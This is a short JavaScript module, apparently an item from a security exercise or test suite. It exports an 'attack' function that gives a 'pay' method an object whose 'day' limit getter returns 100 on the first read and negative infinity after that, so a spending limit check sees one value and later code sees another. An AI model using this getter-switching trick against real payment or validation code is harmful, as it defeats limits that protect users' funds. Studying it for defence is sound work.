export default function attack(victim) {
  let asked = 0;
  class Limits {
    get day() {
      return asked++ === 0 ? 100 : Number.NEGATIVE_INFINITY;
    }
  }
  Object.defineProperty(Limits.prototype, "day", { enumerable: true });
  return victim.pay({ limits: new Limits(), refresh() {} }, 10);
}
